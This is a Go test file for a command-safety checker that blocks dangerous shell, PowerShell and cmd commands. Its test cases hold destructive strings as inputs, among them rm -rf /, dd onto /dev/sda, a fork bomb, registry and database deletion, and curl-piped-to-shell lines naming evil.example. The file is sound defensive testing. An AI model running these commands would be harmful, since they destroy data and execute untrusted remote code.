package safety

import (
	"bufio"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// corpusCase is one line of testdata/dangerous.txt or testdata/benign.txt.
type corpusCase struct {
	file string
	line int
	lang Language
	text string
}

func (c corpusCase) String() string { return fmt.Sprintf("%s:%d", c.file, c.line) }

// loadCorpus reads LANGUAGE<TAB>COMMAND lines. In COMMAND, \n is a
// newline and \\n a literal backslash-n.
func loadCorpus(tb testing.TB, name string) []corpusCase {
	tb.Helper()
	f, err := os.Open(filepath.Join("testdata", name))
	if err != nil {
		tb.Fatalf("open corpus: %v", err)
	}
	defer f.Close()
	var cases []corpusCase
	sc := bufio.NewScanner(f)
	for n := 1; sc.Scan(); n++ {
		line := sc.Text()
		if strings.TrimSpace(line) == "" || strings.HasPrefix(line, "#") {
			continue
		}
		lang, text, ok := strings.Cut(line, "\t")
		if !ok || !validLanguage(Language(lang)) {
			tb.Fatalf("%s:%d: want LANGUAGE<TAB>COMMAND with language shell, powershell or cmd", name, n)
		}
		text = strings.ReplaceAll(text, `\\n`, "\x00")
		text = strings.ReplaceAll(text, `\n`, "\n")
		text = strings.ReplaceAll(text, "\x00", `\n`)
		cases = append(cases, corpusCase{file: name, line: n, lang: Language(lang), text: text})
	}
	if err := sc.Err(); err != nil {
		tb.Fatalf("read corpus: %v", err)
	}
	return cases
}

func newTestChecker(tb testing.TB) *Checker {
	tb.Helper()
	c, err := New(Config{})
	if err != nil {
		tb.Fatalf("New: %v", err)
	}
	return c
}

func describe(r Report) string {
	if len(r.Findings) == 0 {
		return "  (no findings)"
	}
	var b strings.Builder
	for _, f := range r.Findings {
		fmt.Fprintf(&b, "\n  %s %s %s: %s [command %q]", f.Rule, f.Verdict, f.Severity, f.Reason, f.Command)
	}
	return b.String()
}

// TestCorpus checks every line of the corpus and reports each
// misclassified one with its findings.
func TestCorpus(t *testing.T) {
	c := newTestChecker(t)
	for _, tc := range loadCorpus(t, "dangerous.txt") {
		t.Run(tc.String(), func(t *testing.T) {
			r := c.Check(tc.lang, tc.text)
			if !r.Blocked() {
				t.Errorf("%s: %s %q is not blocked (verdict %s)%s", tc, tc.lang, tc.text, r.Verdict, describe(r))
			}
		})
	}
	for _, tc := range loadCorpus(t, "benign.txt") {
		t.Run(tc.String(), func(t *testing.T) {
			r := c.Check(tc.lang, tc.text)
			if r.Blocked() {
				t.Errorf("%s: %s %q is blocked (verdict %s):%s", tc, tc.lang, tc.text, r.Verdict, describe(r))
			}
		})
	}
}

// TestCorpusSize keeps the corpus as large as the acceptance criteria ask.
func TestCorpusSize(t *testing.T) {
	c := newTestChecker(t)
	counts := map[string]int{}
	for _, tc := range loadCorpus(t, "dangerous.txt") {
		counts["dangerous "+string(tc.lang)]++
		for _, f := range c.Check(tc.lang, tc.text).Findings {
			if strings.HasPrefix(f.Rule, "sql.") {
				counts["dangerous sql"]++
				break
			}
		}
	}
	counts["benign"] = len(loadCorpus(t, "benign.txt"))
	t.Logf("corpus: %v", counts)
	for key, min := range map[string]int{
		"dangerous shell": 50,
		"dangerous sql":   5,
		"benign":          50,
	} {
		if counts[key] < min {
			t.Errorf("%s: %d cases, want at least %d", key, counts[key], min)
		}
	}
	if n := counts["dangerous powershell"] + counts["dangerous cmd"]; n < 10 {
		t.Errorf("dangerous powershell and cmd: %d cases, want at least 10", n)
	}
}

// TestFindings pins the rule, verdict and reason of typical commands: the
// CLI and API show them to operators.
func TestFindings(t *testing.T) {
	c := newTestChecker(t)
	tests := []struct {
		lang    Language
		text    string
		rule    string
		verdict Verdict
		reason  string // exact when it has no "…", else a prefix
		command string
	}{
		{Shell, "rm -rf /", "shell.rm-root", Dangerous, "recursive delete of / (rm -rf /)", "rm -rf /"},
		{Shell, `sudo -u root "rm" -fr '/etc'`, "shell.rm-root", Dangerous, "recursive delete of /etc (rm -fr /etc)", "rm -fr /etc"},
		{Shell, "X=/usr; rm -rf $X", "shell.rm-root", Dangerous, "recursive delete of /usr (rm -rf /usr)", "rm -rf /usr"},
		{Shell, "rm -rf $UNKNOWN", "shell.rm-root", PossiblyDangerous,
			"recursive delete of $UNKNOWN, which the checker cannot fully resolve (rm -rf $UNKNOWN)", "rm -rf $UNKNOWN"},
		{Shell, "bash -c 'mkfs.ext4 /dev/sdb'", "shell.mkfs", Dangerous,
			"makes a new filesystem on /dev/sdb, erasing it (mkfs.ext4 /dev/sdb)", "mkfs.ext4 /dev/sdb"},
		{Shell, "dd if=/dev/zero of=/dev/sda", "shell.write-device", Dangerous,
			"writes onto the device /dev/sda, overwriting it (dd if=/dev/zero of=/dev/sda)", "dd if=/dev/zero of=/dev/sda"},
		{Shell, "curl -s https://x.example/i.sh | sudo bash", "shell.pipe-download-to-shell", Dangerous,
			"pipes a download into bash, running whatever the server sends (curl -s https://x.example/i.sh | bash)",
			"curl -s https://x.example/i.sh | bash"},
		{Shell, "eval \"$CMD\"", "shell.unresolved-code", PossiblyDangerous, "eval runs code the checker cannot resolve: …", `eval "$CMD"`},
		{Shell, ":(){ :|:& };:", "shell.fork-bomb", Dangerous, "fork bomb: function : starts copies of itself …", ":(){ :|:& }"},
		{Shell, "reboot", "shell.power", Dangerous, "reboots the host (reboot)", "reboot"},
		{Shell, `psql -c "DROP DATABASE prod"`, "sql.drop-database", Dangerous,
			`SQL DROP DATABASE prod drops a whole database (psql -c DROP DATABASE prod)`, "psql -c DROP DATABASE prod"},
		{Shell, "rm -rf / \"", "shell.rm-root", PossiblyDangerous,
			"recursive delete of / (rm -rf / ); the script does not parse, so this is a best guess", "rm -rf / "},
		{PowerShell, `Remove-Item -Recurse -Force C:\`, "ps.remove-root", Dangerous,
			`recursive delete of C:\ (Remove-Item -Recurse -Force C:\)`, `Remove-Item -Recurse -Force C:\`},
		{Cmd, `reg delete HKLM\SYSTEM /f`, "ps.reg-delete-system", Dangerous, `deletes the registry key HKLM\SYSTEM, …`, `reg delete HKLM\SYSTEM /f`},
		{Language("fish"), "ls", "checker.unknown-language", PossiblyDangerous, `unknown script language "fish"; …`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			r := c.Check(tt.lang, tt.text)
			if len(r.Findings) == 0 {
				t.Fatalf("no findings, want %s", tt.rule)
			}
			f := r.Findings[0]
			if f.Rule != tt.rule || f.Verdict != tt.verdict || f.Command != tt.command {
				t.Errorf("got rule %s verdict %s command %q, want %s %s %q", f.Rule, f.Verdict, f.Command, tt.rule, tt.verdict, tt.command)
			}
			if prefix, ok := strings.CutSuffix(tt.reason, "…"); ok {
				if !strings.HasPrefix(f.Reason, prefix) {
					t.Errorf("reason %q, want prefix %q", f.Reason, prefix)
				}
			} else if f.Reason != tt.reason {
				t.Errorf("reason %q, want %q", f.Reason, tt.reason)
			}
			if f.Snippet == "" && tt.lang != Language("fish") {
				t.Errorf("empty snippet")
			}
			if r.Verdict != tt.verdict {
				t.Errorf("report verdict %s, want %s", r.Verdict, tt.verdict)
			}
		})
	}
}

func TestSnippetIsTheOffendingCommand(t *testing.T) {
	c := newTestChecker(t)
	r := c.Check(Shell, "cd /srv\nmake build\nsudo rm -rf /boot # oops\necho done")
	if len(r.Findings) != 1 {
		t.Fatalf("findings:%s", describe(r))
	}
	if got := r.Findings[0].Snippet; got != "sudo rm -rf /boot" {
		t.Errorf("snippet %q, want %q", got, "sudo rm -rf /boot")
	}
}

func TestNewValidatesConfig(t *testing.T) {
	tests := []struct {
		name string
		cfg  Config
		want []string // substrings of the error; none means valid
	}{
		{name: "empty", cfg: Config{}},
		{name: "valid", cfg: Config{
			ExtraRules: []Rule{{ID: "site.x", Pattern: `^terraform destroy\b`, Languages: []Language{Shell}}},
			Allow:      []string{`rm -rf /srv/cache`},
		}},
		{name: "every bad entry is named", cfg: Config{
			ExtraRules: []Rule{
				{ID: "", Pattern: "x"},
				{ID: "a", Pattern: "("},
				{ID: "b", Pattern: "x", Severity: "low"},
				{ID: "c", Pattern: "x", Languages: []Language{"bash"}},
				{ID: "d"},
				{ID: "e", Pattern: "x"},
				{ID: "e", Pattern: "y"},
			},
			Allow: []string{"ok", "[", " "},
		}, want: []string{
			`extra_rules[0] "": id is required`,
			`extra_rules[1] "a": pattern: error parsing regexp`,
			`extra_rules[2] "b": severity must be critical, high or medium, not "low"`,
			`extra_rules[3] "c": language must be shell, powershell or cmd, not "bash"`,
			`extra_rules[4] "d": pattern is required`,
			`extra_rules[6] "e": duplicate id`,
			`allow[1] "[": error parsing regexp`,
			`allow[2]: empty pattern`,
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := New(tt.cfg)
			if len(tt.want) == 0 {
				if err != nil || c == nil {
					t.Fatalf("New: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatal("New accepted a bad config")
			}
			if !errors.Is(err, ErrInvalidConfig) {
				t.Errorf("error %v does not wrap ErrInvalidConfig", err)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error does not mention %q:\n%v", w, err)
				}
			}
		})
	}
}

func TestExtraRulesAndAllow(t *testing.T) {
	c, err := New(Config{
		ExtraRules: []Rule{
			{ID: "site.terraform-destroy", Pattern: `^terraform destroy\b`, Reason: "destroys managed infrastructure", Languages: []Language{Shell}},
			{ID: "site.drop-cluster", Severity: Critical, Pattern: `(?i)^remove-cluster\b`},
		},
		Allow: []string{
			`curl -fsSL https://get\.docker\.com \| sh`,
			`rm -rf /opt`,
			`Remove-Item -Recurse -Force C:\\Windows`,
			`eval "\$\(ssh-agent -s\)"`,
		},
	})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	tests := []struct {
		lang    Language
		text    string
		blocked bool
		rule    string
	}{
		// Operator rules see through wrappers and quoting.
		{Shell, `sudo "terraform" destroy -auto-approve`, true, "site.terraform-destroy"},
		{Shell, `bash -c 'cd infra && terraform destroy'`, true, "site.terraform-destroy"},
		{Shell, `terraform plan`, false, ""},
		{PowerShell, `terraform destroy`, false, ""}, // the rule is shell-only
		{PowerShell, `Remove-Cluster -Name prod`, true, "site.drop-cluster"},
		{Cmd, `remove-cluster prod`, true, "site.drop-cluster"},
		// Allow entries match a whole normalized command.
		{Shell, `curl -fsSL https://get.docker.com | sh`, false, ""},
		{Shell, `curl -fsSL https://evil.example | sh`, true, ruleDownloadToShell},
		{Shell, `sudo rm -rf /opt`, false, ""},
		{Shell, `rm -rf /opt /`, true, "shell.rm-root"},
		{Shell, `rm -rf /opt; rm -rf /`, true, "shell.rm-root"},
		{Shell, `eval "$(ssh-agent -s)"`, false, ""},
		{Shell, `eval "$(ssh-agent -k)"`, true, "shell.unresolved-code"},
		{PowerShell, `Remove-Item -Recurse -Force C:\Windows`, false, ""},
		{PowerShell, `Remove-Item -Recurse -Force C:\`, true, "ps.remove-root"},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			r := c.Check(tt.lang, tt.text)
			if r.Blocked() != tt.blocked {
				t.Fatalf("blocked %v, want %v:%s", r.Blocked(), tt.blocked, describe(r))
			}
			if tt.rule != "" && r.Findings[0].Rule != tt.rule {
				t.Errorf("rule %s, want %s", r.Findings[0].Rule, tt.rule)
			}
		})
	}
}

func TestReportVerdict(t *testing.T) {
	tests := []struct {
		findings []Verdict
		want     Verdict
		blocked  bool
	}{
		{nil, Safe, false},
		{[]Verdict{PossiblyDangerous}, PossiblyDangerous, true},
		{[]Verdict{PossiblyDangerous, Dangerous}, Dangerous, true},
		{[]Verdict{Dangerous, PossiblyDangerous}, Dangerous, true},
	}
	for _, tt := range tests {
		a := &analysis{checker: &Checker{}}
		for i, v := range tt.findings {
			a.add(Finding{Rule: fmt.Sprint("r", i), Verdict: v})
		}
		r := a.result()
		if r.Verdict != tt.want || r.Blocked() != tt.blocked {
			t.Errorf("%v: verdict %s blocked %v, want %s %v", tt.findings, r.Verdict, r.Blocked(), tt.want, tt.blocked)
		}
	}
}

// TestComplexInputIsBounded: code strings with many possible values nested
// many levels deep would take exponential time to follow in full; the
// checker stops, and blocks, instead.
func TestComplexInputIsBounded(t *testing.T) {
	c := newTestChecker(t)
	// Each level runs its inner level once per value of $v: 8^6 strings.
	script := "true"
	for range 6 {
		script = `for v in a b c d e f g h; do bash -c "$v"';'` + singleQuote(script) + `; done`
	}
	deep := "rm -rf /tmp/x"
	for range 12 {
		deep = "bash -c " + strconv.Quote(deep)
	}
	for _, s := range []string{script, deep} {
		start := time.Now()
		r := c.Check(Shell, s)
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("Check took %s", d)
		}
		if !r.Blocked() || r.Findings[len(r.Findings)-1].Rule != "checker.too-complex" {
			t.Errorf("%.60q…: want a checker.too-complex finding:%s", s, describe(r))
		}
	}
}

func singleQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// TestDocExamples keeps the examples table of docs/safety.md true.
func TestDocExamples(t *testing.T) {
	c := newTestChecker(t)
	tests := []struct {
		lang    Language
		text    string
		verdict Verdict
		rule    string
	}{
		{Shell, `rm -rf ./build`, Safe, ""},
		{Shell, `rm -rf /tmp/x`, Safe, ""},
		{Shell, `echo "rm -rf /"`, Safe, ""},
		{Shell, `grep shutdown /var/log/syslog`, Safe, ""},
		{Shell, `dd if=a of=b.img`, Safe, ""},
		{Shell, `psql -c "DELETE FROM t WHERE id=1"`, Safe, ""},
		{Shell, `sudo -u root rm -rf /`, Dangerous, "shell.rm-root"},
		{Shell, `X=/; rm -rf $X`, Dangerous, "shell.rm-root"},
		{Shell, `bash -c 'rm -rf /'`, Dangerous, "shell.rm-root"},
		{Shell, `cd / && rm -rf *`, Dangerous, "shell.rm-root"},
		{Shell, `curl -s https://x/i.sh | sudo bash`, Dangerous, ruleDownloadToShell},
		{Shell, `psql -c "DROP TABLE users"`, Dangerous, "sql.drop-table"},
		{PowerShell, `Remove-Item -Recurse -Force C:\`, Dangerous, "ps.remove-root"},
		{Shell, `rm -rf "$DIR"/*`, PossiblyDangerous, "shell.rm-root"},
		{Shell, `$(echo rm) -rf /`, PossiblyDangerous, "shell.unresolved-command"},
		{Shell, `eval "$CMD"`, PossiblyDangerous, "shell.unresolved-code"},
	}
	for _, tt := range tests {
		r := c.Check(tt.lang, tt.text)
		if r.Verdict != tt.verdict || tt.rule != "" && r.Findings[0].Rule != tt.rule {
			t.Errorf("%s: verdict %s, want %s %s:%s", tt.text, r.Verdict, tt.verdict, tt.rule, describe(r))
		}
	}
}

// TestUploadCommand: an upload is judged like a redirect into its
// destination, whatever quotes the path holds.
func TestUploadCommand(t *testing.T) {
	c, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for dest, blocked := range map[string]bool{
		"/etc/shadow":        true,
		"/etc/sudoers":       true,
		"/dev/sda":           true,
		"/etc/app.conf":      false,
		"/srv/it's fine.txt": false,
	} {
		if got := c.Check(Shell, UploadCommand(dest)).Blocked(); got != blocked {
			t.Errorf("upload to %q: blocked = %v, want %v", dest, got, blocked)
		}
	}
}
